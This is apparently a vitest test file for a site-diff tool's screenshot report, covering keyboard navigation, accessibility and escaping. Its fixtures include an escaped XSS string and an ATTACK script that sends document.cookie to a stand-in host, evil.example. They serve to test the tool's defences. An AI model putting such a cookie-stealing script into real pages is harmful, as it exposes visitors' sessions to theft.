/** `diff` looks at changed pages in a real browser, and its report is read in three, from a disk. */
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { pathToFileURL } from "node:url";
import { beforeAll, describe, expect, it } from "vitest";
import { cli } from "../cli.ts";
import { temporaryFolder } from "../folders.ts";
import { AXE, findViolations, RULES, VIEWS, violationsIn } from "./axe.ts";
import { HEADLESS_SHELL } from "./chromium.ts";
import { isShown, textOf } from "./engines/look.ts";
import { windows } from "./engines/windows.ts";
import { sharedBrowser, WIDE } from "./harness.ts";

const FOLDER = temporaryFolder("report");
const ROOT = join(FOLDER, "site");
const REPORT = join(FOLDER, "report");
const { visit } = sharedBrowser();

function write(folder: string, files: Readonly<Record<string, string>>) {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
}

const page = (title: string, body: string, head = '<link rel="stylesheet" href="/style.css">') =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body><main>${body}</main></body></html>`;

const PARAGRAPH =
  "<p>A swarm leaves in May when the hive is full, and the old queen takes half along.</p>";

/** What never stands still by itself. */
const RESTLESS = `<p class="spin">Turning</p><p id="now"></p><img loading="lazy" src="/bee.svg" alt="A bee" style="margin-top:3000px">
<script>now.textContent = Date.now() + " " + Math.random() + " " + new Date().getTimezoneOffset()</script>`;

/** Words that want to be more than words. */
const HOSTILE = "&lt;img src=x onerror=alert(1)&gt;&lt;/script&gt; {name} &#x202e;drawkcab";

/** A page of the live site that somebody else wrote. */
const ATTACK = `<script>
alert("hello"); open("https://evil.example/"); fetch("https://evil.example/?" + document.cookie);
setInterval(() => { document.title += "!"; }, 30); new WebSocket("wss://evil.example/");
location.hash = "gone";
</script>`;

const site = (price: string, colour: string, more: string) => ({
  "index.html": page("Home", `<h1>Bees</h1>${PARAGRAPH.repeat(3)}<p>From AED ${price}</p>`),
  "calm/index.html": page("Calm", `<h1>Calm</h1>${RESTLESS}`),
  "words/index.html": page("Words", `<h1>Words</h1>${PARAGRAPH}<p>${HOSTILE} ${more}</p>`),
  "same/index.html": page("Same", "<h1>Same</h1>", ""),
  "style.css": `body{margin:2rem;font:1rem sans-serif}.spin{animation:spin 1s infinite}@keyframes spin{to{transform:rotate(360deg)}}.unused{color:${colour}}`,
  "bee.svg":
    '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><circle cx="45" cy="45" r="40" fill="#b80"/></svg>',
});

const diff = (...more: readonly string[]) =>
  cli([
    ...["diff", "--root", ROOT, "--from", join(FOLDER, "before")],
    ...["--browser", HEADLESS_SHELL.executablePath, ...more],
  ]);

interface Pictured {
  readonly pictures?: readonly {
    readonly page: string;
    readonly only?: string;
    readonly views: readonly { readonly width: number; readonly scheme: string }[];
    readonly problem?: string;
  }[];
  readonly changes: readonly { readonly kind: string; readonly seenOn?: readonly string[] }[];
}

let result: Pictured;
beforeAll(async () => {
  write(join(FOLDER, "before"), {
    ...site("25,000", "red", "calmly"),
    "gone/index.html": page(
      "Gone",
      `<h1>Gone</h1><p>Honey of last year, sold by weight.</p>${ATTACK}`,
    ),
  });
  write(join(ROOT, "dist"), {
    ...site("28,000", "blue", "wildly"),
    "new/index.html": page("New", "<h1>New</h1><p>Candles that burn for a long evening.</p>"),
  });
  const { stdout, stderr } = await diff("--report", REPORT, "--dark", "--json");
  expect(stderr).toBe("");
  result = JSON.parse(stdout);
});

describe("pictures", () => {
  it("are of pages that look different, at each width and by night, and of no others", () => {
    const told = result.pictures?.map(({ page: address, views, ...rest }) => ({
      address,
      views: views.map(({ width, scheme }) => `${width} ${scheme}`),
      ...rest,
    }));
    const views = ["390 light", "1440 light", "390 dark", "1440 dark"];
    expect(told).toEqual([
      { address: "/", views },
      { address: "/calm", views: [] },
      { address: "/words", views },
      { address: "/gone", views, only: "before" },
      { address: "/new", views, only: "after" },
    ]);
  });

  it("say which pages a changed stylesheet alters, beside their words", () => {
    const look = result.changes.find(({ kind }) => kind === "look");
    expect(look?.seenOn).toEqual(["/", "/words"]);
  });

  it("are left out with a reason where there is no browser", async () => {
    const { code, stdout, stderr } = await diff("--pictures", "--browser", "/nowhere/chrome");
    expect({ code, stderr }).toEqual({
      code: 1,
      stderr: expect.stringContaining("no pictures were taken: the browser did not start"),
    });
    expect(stdout).toContain("25,000 → 28,000");
  });
});

describe("the report", () => {
  const url = pathToFileURL(REPORT).href;

  it("is read by keyboard from a disk: list, page, next page, overview", async () => {
    await visit("preact", { site: url }, async ({ page: tab }) => {
      await tab.goto(`${url}/index.html`);
      const listed = await tab.locator(".pages a").allTextContents();
      // What got worse comes first.
      expect(listed).toEqual(["/gone", "/words", "/", "/new", "/calm"]);
      expect(await tab.getByText("Keys:").isVisible()).toBe(true);
      await tab.keyboard.press("j");
      await tab.keyboard.press("j");
      await tab.keyboard.press("j");
      await tab.keyboard.press("k");
      await tab.keyboard.press("Enter");
      await expect.poll(() => tab.locator("h1").textContent()).toBe("/words");
      // What was markup in neither version is none here.
      expect(await tab.locator("main").textContent()).toContain("<img src=x onerror=alert(1)>");
      expect(await tab.locator("main").textContent()).not.toContain("\u202e");
      expect(await tab.locator("img[src=x]").count()).toBe(0);
      await tab.keyboard.press("j");
      await expect.poll(() => tab.locator("h1").textContent()).toBe("/");
      await tab.keyboard.press("o");
      await expect.poll(() => tab.locator("h1").textContent()).toContain("What visitors");
    });
  });

  it("shows before, after, both, what differs, and a line that moves", async () => {
    await visit("preact", { site: url, viewport: WIDE }, async ({ page: tab }) => {
      await tab.goto(`${url}/pages/2/index.html`);
      const view = tab.locator(".view").first();
      const shown = async () => {
        const widths = view
          .locator("img")
          .evaluateAll((all) =>
            all.map((one) =>
              one.checkVisibility() ? [one.className, (one as HTMLImageElement).naturalWidth] : [],
            ),
          );
        return Object.fromEntries((await widths).filter((one) => one.length > 0));
      };
      await expect.poll(shown).toEqual({ before: 390, after: 390 });
      await view.locator("[type=range]").fill("20");
      const clip = await view.locator(".before").evaluate((one) => getComputedStyle(one).clipPath);
      expect(clip).toContain("80%");
      await view.getByLabel("What differs").check();
      await expect.poll(shown).toEqual({ after: 390, mask: 390 });
      await view.getByLabel("Before", { exact: true }).check();
      await expect.poll(shown).toEqual({ before: 390 });
    });
  });

  it("shows a page that is new or gone as it looks", async () => {
    await visit("preact", { site: url, viewport: WIDE }, async ({ page: tab }) => {
      for (const [path, says] of [
        ["pages/1/index.html", "The page is gone."],
        ["pages/4/index.html", "The page is new."],
      ] as const) {
        await tab.goto(`${url}/${path}`);
        expect(await tab.locator(".lead").textContent()).toContain(says);
        const image = tab.locator(".view img").first();
        await expect
          .poll(() => image.evaluate((one) => (one as HTMLImageElement).naturalWidth))
          .toBe(390);
        expect(await tab.locator(".view img").count()).toBe(4);
      }
    });
  });

  it("has nothing that axe-core finds wrong, and works without script", async () => {
    await visit("preact", { site: url, reducedMotion: "reduce" }, async ({ page: tab }) => {
      for (const [path, views] of [
        ["index.html", VIEWS],
        ["pages/1/index.html", VIEWS.slice(0, 1)],
        ["pages/2/index.html", VIEWS],
      ] as const) {
        await tab.goto(`${url}/${path}`);
        expect(await violationsIn(tab, views)).toEqual([]);
      }
    });
    await visit("preact", { site: url, javaScriptEnabled: false }, async ({ page: tab }) => {
      await tab.goto(`${url}/index.html`);
      await tab.getByRole("link", { name: "/", exact: true }).click();
      const view = tab.locator(".view").first();
      await expect.poll(() => view.locator(".before").isVisible()).toBe(true);
      expect(await view.getByText("Wipe").isVisible()).toBe(false);
      expect(await tab.getByText("Keys:").isVisible()).toBe(false);
      await view.getByLabel("After", { exact: true }).check();
      expect(await view.locator(".before").isVisible()).toBe(false);
    });
  });

  describe.each(windows())("in %s", { timeout: 120_000 }, (_, tab) => {
    it.each(["index.html", "pages/2/index.html"])(
      "has nothing that axe-core finds wrong in %s",
      async (path) => {
        await tab().resize(1280, 800);
        await tab().open(`${url}/${path}`);
        await tab().inject(AXE);
        expect(await tab().run(findViolations, [...RULES.light])).toEqual([]);
        const broken = () =>
          tab().run(() =>
            [...document.images]
              .filter((image) => image.checkVisibility() && !image.naturalWidth)
              .map(({ src }) => src),
          );
        await expect.poll(broken).toEqual([]);
      },
    );

    it("goes on by j and moves the line", async () => {
      await tab().open(`${url}/pages/2/index.html`);
      const isOn = await tab().run(
        () => document.querySelector<HTMLInputElement>("[value=wipe]")?.checked,
      );
      expect(isOn).toBe(true);
      const heading = () => tab().run(() => document.querySelector("h1")?.textContent);
      await tab().write("[data-way=up]", "j");
      await expect.poll(heading).toBe("/");
      await tab().write("[data-way=up]", "k");
      await expect.poll(heading).toBe("/words");
    });
  });

  describe.each(windows({ script: false, dark: true }, ["WebKit"]))(
    "in %s, by night and without script",
    { timeout: 120_000 },
    (_, tab) => {
      it("leads from the list to a page, whose pictures are chosen by their names", async () => {
        await tab().resize(390, 800);
        await tab().open(`${url}/index.html`);
        await tab().click('.pages a[href*="pages/2/"]');
        await expect.poll(() => textOf(tab(), "h1")).toBe("/words");
        await expect.poll(() => isShown(tab(), ".view .before")).toBe(true);
        await tab().click(".view [value=after]");
        await expect.poll(() => isShown(tab(), ".view .before")).toBe(false);
        expect(await tab().run(() => document.documentElement.scrollWidth)).toBe(390);
      });
    },
  );

  it("takes the place of an earlier report, and of nothing else", async () => {
    const refused = await diff("--report", join(FOLDER, "before"), "--json");
    expect([refused.code, JSON.parse(refused.stdout).problems]).toEqual([
      2,
      [expect.objectContaining({ rule: "diff/place-taken" })],
    ]);
    writeFileSync(join(REPORT, "left.txt"), "left");
    const again = await diff("--report", REPORT, "--no-pictures");
    expect(again.stdout).toContain("open its index.html");
    expect(() => readFileSync(join(REPORT, "left.txt"))).toThrow("ENOENT");
    expect(readFileSync(join(REPORT, "index.html"), "utf8")).toContain("/words");
  });
});
